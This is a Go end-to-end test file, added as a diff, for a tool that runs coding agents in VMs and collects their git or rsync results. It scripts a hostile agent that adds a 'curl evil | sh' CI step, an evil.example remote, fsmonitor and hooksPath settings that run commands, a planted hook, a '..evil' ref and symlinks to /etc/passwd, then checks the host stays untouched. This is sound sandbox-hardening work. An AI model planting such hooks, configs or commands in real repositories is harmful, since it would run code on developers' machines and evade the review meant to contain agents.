@@ -1,0 +1,256 @@
+package e2e
+
+import (
+	"crypto/sha256"
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func sh(t *testing.T, dir, script string) string {
+	t.Helper()
+	cmd := exec.Command("sh", "-c", script)
+	cmd.Dir = dir
+	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=u", "GIT_AUTHOR_EMAIL=u@host", "GIT_COMMITTER_NAME=u", "GIT_COMMITTER_EMAIL=u@host")
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("%s: %v\n%s", script, err, out)
+	}
+	return string(out)
+}
+
+// treeSum digests a folder: every file's path, mode and content (with
+// .git limited to what collect promises not to write: index, HEAD,
+// config and hooks, unless whole is set).
+func treeSum(t *testing.T, root string, whole bool) string {
+	t.Helper()
+	h := sha256.New()
+	filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
+		if err != nil || fi.IsDir() {
+			return nil
+		}
+		rel, _ := filepath.Rel(root, p)
+		if !whole && strings.HasPrefix(rel, ".git/") && rel != ".git/index" && rel != ".git/HEAD" && rel != ".git/config" && !strings.HasPrefix(rel, ".git/hooks/") {
+			return nil
+		}
+		b, _ := os.ReadFile(p)
+		fmt.Fprintf(h, "%s %o %x\n", rel, fi.Mode(), sha256.Sum256(b))
+		return nil
+	})
+	return fmt.Sprintf("%x", h.Sum(nil))
+}
+
+type summary struct {
+	Machine     string   `json:"machine"`
+	Branch      string   `json:"branch"`
+	Tip         string   `json:"tip"`
+	Commits     int      `json:"commits"`
+	Files       []string `json:"files"`
+	Flagged     []string `json:"flagged"`
+	Uncommitted bool     `json:"uncommitted"`
+	Into        string   `json:"into"`
+}
+
+// Git mode end to end, with an agent that turns hostile: its commits and
+// uncommitted edit come back as branch fleet/<vm>; its config, hooks and
+// refs do not; the workflow it touched is flagged; a huge push is cut
+// off; destroy protects uncollected work; apply merges.
+func TestWorkspaceGit(t *testing.T) {
+	requireE2E(t)
+	t.Parallel()
+	t.Cleanup(func() { dumpConsoles(t) })
+	repo := t.TempDir()
+	sh(t, repo, `git init -q -b main && printf 'package main\n' > main.go && printf 'secret.env\n' > .gitignore &&
+mkdir -p .github/workflows && printf 'on: push\n' > .github/workflows/ci.yml &&
+git add -A && git commit -q -m first &&
+printf '#!/bin/sh\necho host hook\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config host.only yes &&
+printf 'package main // edited on the host\n' > main.go && echo untracked > notes.txt && echo TOKEN=1 > secret.env`)
+	hostRefs := func() string { return strings.TrimSpace(sh(t, repo, "git for-each-ref --format='%(refname)'")) }
+
+	out := mustFleet(t, bootDeadline, "spawn", "1", "--name", "ws", "--memory", "1G", "--project", repo)
+	if strings.TrimSpace(out) != "ws-1" {
+		t.Fatalf("spawn printed %q", out)
+	}
+	before := treeSum(t, repo, false)
+
+	t.Run("the VM sees what the user sees, without host hooks, config or ignored files", func(t *testing.T) {
+		out := mustFleet(t, 2*time.Minute, "exec", "ws-1", "--name", "ws", "--", "sh", "-c",
+			`cd /workspace && git branch --show-current && cat main.go notes.txt && ls -a .git/hooks && git config --local --list && ls secret.env 2>&1 || true`)
+		for _, want := range []string{"fleet/ws-1", "edited on the host", "untracked"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("VM lacks %q:\n%s", want, out)
+			}
+		}
+		for _, bad := range []string{"pre-commit\n", "host.only", "TOKEN"} {
+			if strings.Contains(out, bad) {
+				t.Errorf("VM has %q from the host:\n%s", bad, out)
+			}
+		}
+	})
+
+	// The agent works, then turns hostile.
+	mustFleet(t, 2*time.Minute, "exec", "ws-1", "--name", "ws", "--", "sh", "-c", `set -e; cd /workspace
+printf 'package main\nfunc feature() {}\n' > feature.go && git add -A && git commit -q -m 'agent: feature'
+printf 'on: push\njobs: {steal: {runs-on: x, steps: [{run: "curl evil | sh"}]}}\n' > .github/workflows/ci.yml && git commit -qam 'agent: ci'
+git remote add evil https://evil.example/x.git
+git config core.hooksPath /tmp/evil-hooks && git config core.fsmonitor 'touch /tmp/pwned'
+printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/post-merge && chmod +x .git/hooks/post-merge
+git update-ref refs/heads/main HEAD && git update-ref refs/tags/v9 HEAD
+mkdir -p .git/refs/heads/x && echo $(git rev-parse HEAD) > '.git/refs/heads/x/..evil'
+echo 'half done' > wip.txt`)
+
+	t.Run("destroy refuses uncollected work and names the machine", func(t *testing.T) {
+		r := fleet(t, 3*time.Minute, "destroy", "ws-1", "--name", "ws")
+		if r.code == 0 || !strings.Contains(r.stderr, "ws-1") || !strings.Contains(r.stderr, "collect") {
+			t.Fatalf("destroy: exit %d %s", r.code, r.stderr)
+		}
+		if ls(t, "ws")["ws-1"].State != "running" {
+			t.Fatal("the refused machine is gone")
+		}
+	})
+
+	t.Run("collect brings commits and the uncommitted edit, and nothing else", func(t *testing.T) {
+		var sums []summary
+		if err := json.Unmarshal([]byte(mustFleet(t, 5*time.Minute, "collect", "--all", "--name", "ws", "--json")), &sums); err != nil {
+			t.Fatal(err)
+		}
+		if len(sums) != 1 || sums[0].Branch != "fleet/ws-1" || sums[0].Commits != 3 || !sums[0].Uncommitted {
+			t.Fatalf("summary: %+v", sums)
+		}
+		if strings.Join(sums[0].Flagged, ",") != ".github/workflows/ci.yml" {
+			t.Errorf("flagged: %v", sums[0].Flagged)
+		}
+		if got := treeSum(t, repo, false); got != before {
+			t.Fatal("collect changed the host's working tree, index, HEAD, config or hooks")
+		}
+		if refs := hostRefs(); refs != "refs/heads/fleet/ws-1\nrefs/heads/main" {
+			t.Fatalf("host refs:\n%s", refs)
+		}
+		if main := strings.TrimSpace(sh(t, repo, "git log -1 --format=%s main")); main != "first" {
+			t.Fatalf("the VM's main reached the host's main: %s", main)
+		}
+		cfg := sh(t, repo, "git config --list --local")
+		if strings.Contains(cfg, "evil") || strings.Contains(cfg, "fsmonitor") || strings.Contains(cfg, "hooksPath") {
+			t.Fatalf("VM config reached the host:\n%s", cfg)
+		}
+		if _, err := os.Stat(filepath.Join(repo, ".git", "hooks", "post-merge")); err == nil {
+			t.Fatal("VM hook reached the host")
+		}
+		log := sh(t, repo, "git log --format=%s fleet/ws-1")
+		for _, want := range []string{"uncommitted work in ws-1", "agent: ci", "agent: feature", "uncommitted changes on the host at spawn", "first"} {
+			if !strings.Contains(log, want) {
+				t.Errorf("fleet/ws-1 history lacks %q:\n%s", want, log)
+			}
+		}
+		if r := fleet(t, time.Minute, "collect", "ws-1", "--name", "ws"); r.code != 0 || !strings.Contains(r.stdout, "fleet/ws-1") {
+			t.Errorf("second collect: %d %s %s", r.code, r.stdout, r.stderr)
+		}
+	})
+
+	t.Run("diff shows the agent's change", func(t *testing.T) {
+		out := mustFleet(t, 2*time.Minute, "diff", "ws-1", "--name", "ws", "--stat")
+		for _, want := range []string{"feature.go", ".github/workflows/ci.yml", "wip.txt"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("diff --stat lacks %s:\n%s", want, out)
+			}
+		}
+	})
+
+	t.Run("apply refuses a dirty tree, then merges", func(t *testing.T) {
+		sh(t, repo, "git commit -qam 'user: keep my edit'") // main.go edited; notes.txt stays untracked
+		sh(t, repo, "echo dirty >> main.go")
+		dirty := treeSum(t, repo, true)
+		r := fleet(t, time.Minute, "apply", "ws-1", "--name", "ws")
+		if r.code == 0 || !strings.Contains(r.stderr, "uncommitted changes") || treeSum(t, repo, true) != dirty {
+			t.Fatalf("apply on a dirty tree: exit %d %s", r.code, r.stderr)
+		}
+		sh(t, repo, "git checkout -q -- main.go && rm notes.txt")
+		mustFleet(t, time.Minute, "apply", "ws-1", "--name", "ws")
+		if _, err := os.Stat(filepath.Join(repo, "feature.go")); err != nil {
+			t.Fatal("feature.go not merged")
+		}
+		if p := strings.TrimSpace(sh(t, repo, "git log -1 --format=%p")); len(strings.Fields(p)) != 2 {
+			t.Fatalf("want a merge commit, parents %q", p)
+		}
+	})
+
+	t.Run("a huge push is cut off at --max-size, quickly", func(t *testing.T) {
+		mustFleet(t, 5*time.Minute, "exec", "ws-1", "--name", "ws", "--", "sh", "-c",
+			"cd /workspace && head -c 64M /dev/urandom > big.bin && git add big.bin && git commit -qm big")
+		tip := strings.TrimSpace(sh(t, repo, "git rev-parse fleet/ws-1"))
+		t0 := time.Now()
+		r := fleet(t, 10*time.Minute, "collect", "ws-1", "--name", "ws", "--max-size", "16M")
+		if r.code == 0 || !strings.Contains(r.stderr, "larger than the collect limit") {
+			t.Fatalf("collect: exit %d %s", r.code, r.stderr)
+		}
+		t.Logf("refused in %s", time.Since(t0).Round(time.Millisecond))
+		if now := strings.TrimSpace(sh(t, repo, "git rev-parse fleet/ws-1")); now != tip {
+			t.Fatal("a refused collect moved the branch")
+		}
+	})
+
+	t.Run("destroy --force discards, after saying no without it", func(t *testing.T) {
+		if r := fleet(t, 3*time.Minute, "destroy", "--all", "--name", "ws"); r.code == 0 {
+			t.Fatal("destroy let uncollected work go")
+		}
+		mustFleet(t, 3*time.Minute, "destroy", "--all", "--force", "--name", "ws")
+	})
+}
+
+// Rsync mode: one way in honouring .gitignore and fleet.hcl excludes;
+// collect copies results into a separate folder and never over the source.
+func TestWorkspaceRsync(t *testing.T) {
+	requireE2E(t)
+	t.Parallel()
+	t.Cleanup(func() { dumpConsoles(t) })
+	src := t.TempDir()
+	sh(t, src, `mkdir -p lib node_modules/dep && echo 'print(1)' > app.py && echo 'x = 1' > lib/util.py &&
+echo 'secret.env' > .gitignore && echo TOKEN=1 > secret.env && echo dep > node_modules/dep/index.js &&
+printf 'exclude = ["node_modules"]\n' > fleet.hcl`)
+	before := treeSum(t, src, true)
+	mustFleet(t, bootDeadline, "spawn", "1", "--name", "rs", "--memory", "1G", "--project", src)
+
+	out := mustFleet(t, 2*time.Minute, "exec", "rs-1", "--name", "rs", "--", "sh", "-c", "cd /workspace && find . -type f | sort")
+	if !strings.Contains(out, "./app.py") || !strings.Contains(out, "./lib/util.py") {
+		t.Fatalf("project not in the VM:\n%s", out)
+	}
+	if strings.Contains(out, "secret.env") || strings.Contains(out, "node_modules") {
+		t.Fatalf("ignored or excluded files reached the VM:\n%s", out)
+	}
+	mustFleet(t, 2*time.Minute, "exec", "rs-1", "--name", "rs", "--", "sh", "-c",
+		"cd /workspace && echo 'print(2)' > app.py && echo new > result.txt && ln -s /etc/passwd leak && ln -s ../../.. up")
+
+	if r := fleet(t, 3*time.Minute, "destroy", "rs-1", "--name", "rs"); r.code == 0 || !strings.Contains(r.stderr, "rs-1") {
+		t.Fatalf("destroy with uncollected files: exit %d %s", r.code, r.stderr)
+	}
+	if r := fleet(t, time.Minute, "collect", "rs-1", "--name", "rs", "--into", filepath.Join(src, "out")); r.code == 0 || !strings.Contains(r.stderr, "overlaps the project") {
+		t.Fatalf("--into inside the source: exit %d %s", r.code, r.stderr)
+	}
+	into := t.TempDir()
+	var sums []summary
+	if err := json.Unmarshal([]byte(mustFleet(t, 5*time.Minute, "collect", "rs-1", "--name", "rs", "--into", into, "--json")), &sums); err != nil {
+		t.Fatal(err)
+	}
+	res := filepath.Join(into, "rs-1")
+	if len(sums) != 1 || sums[0].Into != res {
+		t.Fatalf("summary %+v", sums)
+	}
+	if b, _ := os.ReadFile(filepath.Join(res, "app.py")); string(b) != "print(2)\n" {
+		t.Errorf("results app.py = %q", b)
+	}
+	if b, _ := os.ReadFile(filepath.Join(res, "result.txt")); string(b) != "new\n" {
+		t.Errorf("results result.txt = %q", b)
+	}
+	if l, err := os.Readlink(filepath.Join(res, "leak")); err != nil || l != "/etc/passwd" {
+		t.Errorf("symlink not kept as a link: %q %v", l, err)
+	}
+	if treeSum(t, src, true) != before {
+		t.Fatal("collect wrote into the source folder")
+	}
+	mustFleet(t, 3*time.Minute, "destroy", "rs-1", "--name", "rs") // collected: allowed
+}
